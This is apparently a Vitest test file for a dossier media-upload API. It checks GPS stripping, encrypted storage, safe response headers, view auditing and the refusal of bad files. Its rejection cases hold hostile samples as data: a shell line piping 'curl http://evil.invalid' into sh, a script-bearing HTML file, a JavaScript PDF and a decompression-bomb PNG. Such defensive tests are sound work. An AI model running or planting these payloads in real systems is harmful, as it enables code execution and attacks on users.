import exifr from 'exifr';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HEIC_WITH_EXIF, buildPdf, jpegWithPrivateExif, pageObjects, photoJpeg, pngHeaderOnly } from '../../../../../packages/media/test/fixtures.ts';
import { createTestApp, type Client, type TestApp } from '../../../test/test-app.ts';
import { findAuditForRecord } from '../audit/audit.repository.ts';
import { countRows, createDossier, filesUnder, upload, useTemporaryMediaFolder } from './media.test-support.ts';

let t: TestApp;
let holder: Client;
let blobDir: string;
let dossierId: string;
beforeAll(async () => {
  blobDir = useTemporaryMediaFolder();
  t = await createTestApp();
  holder = await t.login(['caseworker'], await t.party('holding-country-authority'));
  dossierId = await createDossier(holder);
});
afterAll(() => t.close());

const photoUrl = () => `/api/v1/dossiers/${dossierId}/media?kind=photo`;

describe('uploading and viewing a photo', () => {
  it('stores a photo encrypted, serves it without its GPS tags, and audits the view', async () => {
    const original = await jpegWithPrivateExif(800, 600);
    expect(await exifr.gps(original)).toBeDefined(); // the fixture really carries GPS
    const res = await upload(holder, photoUrl(), original, 'image/jpeg');
    expect(res.statusCode).toBe(201);
    const media = res.json();
    expect(media).toMatchObject({ subjectType: 'dossier', subjectId: dossierId, kind: 'photo', takenOn: '2022-03-01', isPrimary: true, position: 0 });
    expect(media.variants.map((v: { name: string }) => v.name)).toEqual(['original', 'medium', 'thumbnail']);
    expect(res.body).not.toContain('Canon');

    // At rest: neither the JPEG nor its GPS tags are readable in the blob folder.
    const files = filesUnder(blobDir);
    expect(files).toHaveLength(3);
    const { readFileSync } = await import('node:fs');
    for (const f of files) {
      const bytes = readFileSync(`${blobDir}/${f}`);
      expect(bytes.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))).toBe(false);
      expect(bytes.includes(Buffer.from('Canon'))).toBe(false);
    }

    for (const variant of ['original', 'medium', 'thumbnail']) {
      const got = await holder.get(`/api/v1/media/${media.id}/${variant}`);
      expect(got.statusCode).toBe(200);
      expect(got.headers['content-type']).toBe('image/jpeg');
      expect(got.headers['cache-control']).toBe('private, no-store');
      expect(got.headers['x-content-type-options']).toBe('nosniff');
      expect(got.headers['content-security-policy']).toContain('sandbox');
      expect(got.rawPayload.subarray(0, 3).equals(Buffer.from([0xff, 0xd8, 0xff]))).toBe(true);
      expect(await exifr.gps(got.rawPayload)).toBeUndefined();
      const meta = await sharp(got.rawPayload).metadata();
      expect(meta.exif).toBeUndefined();
    }
    const original800 = await holder.get(`/api/v1/media/${media.id}/original`);
    expect((await sharp(original800.rawPayload).metadata()).width).toBe(800);

    const views = (await findAuditForRecord(t.database.db, 'media', media.id)).filter((a) => a.action === 'media.view');
    expect(views.map((v) => (v.details as { variant: string }).variant).sort()).toEqual(['medium', 'original', 'original', 'thumbnail']);
    expect(views.every((v) => v.actor_user_id === holder.userId && v.fields.includes('identity'))).toBe(true);
  });

  it('lists a dossier’s media with metadata only, and records the content hash attestations cover', async () => {
    const list = await holder.get(`/api/v1/dossiers/${dossierId}/media`);
    expect(list.statusCode).toBe(200);
    const [first] = list.json().items;
    const bytes = (await holder.get(`/api/v1/media/${first.id}/original`)).rawPayload;
    const { createHash } = await import('node:crypto');
    expect(first.contentHash).toBe(createHash('sha256').update(bytes).digest('hex'));
  });

  it('returns the existing file when the same photo is uploaded again, storing nothing new', async () => {
    const before = filesUnder(blobDir).length;
    const again = await upload(holder, photoUrl(), await jpegWithPrivateExif(800, 600));
    expect(again.statusCode).toBe(200);
    expect(filesUnder(blobDir)).toHaveLength(before);
  });

  it('accepts PNG, WebP and iPhone HEIC photos, judged by content whatever the declared type, and serves clean JPEGs', async () => {
    const png = await sharp({ create: { width: 64, height: 48, channels: 4, background: '#33669980' } }).png().toBuffer();
    const webp = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#336699' } }).webp().toBuffer();
    for (const bytes of [png, webp, HEIC_WITH_EXIF]) {
      const res = await upload(holder, photoUrl(), bytes, 'application/octet-stream');
      expect(res.statusCode).toBe(201);
      const got = await holder.get(`/api/v1/media/${res.json().id}/original`);
      expect(got.headers['content-type']).toBe('image/jpeg');
      expect(await exifr.gps(got.rawPayload)).toBeUndefined();
      expect((await sharp(got.rawPayload).metadata()).exif).toBeUndefined();
      if (bytes === HEIC_WITH_EXIF) expect(res.json().capturedAt).toBe('2023-07-14T09:08:07+03:00'); // its EXIF was read, then dropped
    }
  });

  it('accepts a clean PDF as a document and serves it only as a download', async () => {
    const pdf = buildPdf(pageObjects());
    const res = await upload(holder, `/api/v1/dossiers/${dossierId}/media?kind=document`, pdf, 'application/pdf');
    expect(res.statusCode).toBe(201);
    expect(res.json()).toMatchObject({ kind: 'document', position: null, isPrimary: false });
    const got = await holder.get(`/api/v1/media/${res.json().id}/original`);
    expect(got.headers['content-type']).toBe('application/pdf');
    expect(got.headers['content-disposition']).toMatch(/^attachment;/);
    expect(got.rawPayload.equals(pdf)).toBe(true);
    expect((await holder.get(`/api/v1/media/${res.json().id}/thumbnail`)).statusCode).toBe(404);
  });
});

describe('bad input is refused with a clear code and nothing is stored', () => {
  const jpeg = () => jpegWithPrivateExif(400, 300);
  const cases: Array<[string, () => Promise<Buffer> | Buffer, string, number, string?]> = [
    ['a truncated JPEG', async () => { const whole = await photoJpeg(800, 600); return whole.subarray(0, Math.floor(whole.length * 0.6)); }, 'IMAGE_CORRUPT', 422],
    ['a corrupt PNG', () => Buffer.concat([pngHeaderOnly(100, 100).subarray(0, 33), Buffer.from('garbage-garbage-garbage')]), 'IMAGE_CORRUPT', 422],
    ['a script disguised as a JPEG', () => Buffer.from('#!/bin/sh\ncurl http://evil.invalid | sh\n'), 'UNSUPPORTED_FILE_TYPE', 415],
    ['HTML sent as image/png', () => Buffer.from('<html><script>alert(1)</script></html>'), 'UNSUPPORTED_FILE_TYPE', 415],
    ['a 50,000 × 50,000 PNG (decompression bomb)', () => pngHeaderOnly(50_000, 50_000), 'IMAGE_TOO_LARGE_PIXELS', 422],
    ['a PDF with JavaScript', () => buildPdf(pageObjects('/OpenAction 5 0 R').concat(['<< /S /JavaScript /JS (app.alert(1)) >>'])), 'PDF_ACTIVE_CONTENT', 422, 'document'],
    ['a PDF cut off midway', () => buildPdf(pageObjects()).subarray(0, 200), 'PDF_MALFORMED', 422, 'document'],
    ['a PDF as a photo', () => buildPdf(pageObjects()), 'UNSUPPORTED_FILE_TYPE', 415],
    ['an empty body', () => Buffer.alloc(0), 'EMPTY_FILE', 400],
  ];
  it.each(cases)('refuses %s', async (_label, make, code, status, kind = 'photo') => {
    const [files, blobs] = [await countRows(t, 'media_file'), filesUnder(blobDir).length];
    const res = await upload(holder, `/api/v1/dossiers/${dossierId}/media?kind=${kind}`, await make(), 'image/jpeg');
    expect(res.statusCode).toBe(status);
    expect(res.json().code).toBe(code);
    expect(res.json().message).toBeTruthy();
    expect(await countRows(t, 'media_file')).toBe(files);
    expect(filesUnder(blobDir)).toHaveLength(blobs);
  });

  it('refuses an oversize upload with 413 FILE_TOO_LARGE before reading it all', async () => {
    const big = Buffer.alloc(26_000_000, 1);
    big.set([0xff, 0xd8, 0xff]);
    const res = await upload(holder, photoUrl(), big);
    expect(res.statusCode).toBe(413);
    expect(res.json().code).toBe('FILE_TOO_LARGE');
    expect(res.json().details.maxBytes).toBe(25_000_000);
  });

  it('refuses a JSON body on the upload route', async () => {
    const res = await holder.post(photoUrl(), { file: 'x' });
    expect(res.statusCode).toBe(415);
    expect(res.json().code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('answers 404 for a dossier that does not exist, without reading the file into storage', async () => {
    const res = await upload(holder, `/api/v1/dossiers/00000000-0000-4000-8000-000000000000/media`, await jpeg());
    expect(res.statusCode).toBe(404);
  });
});
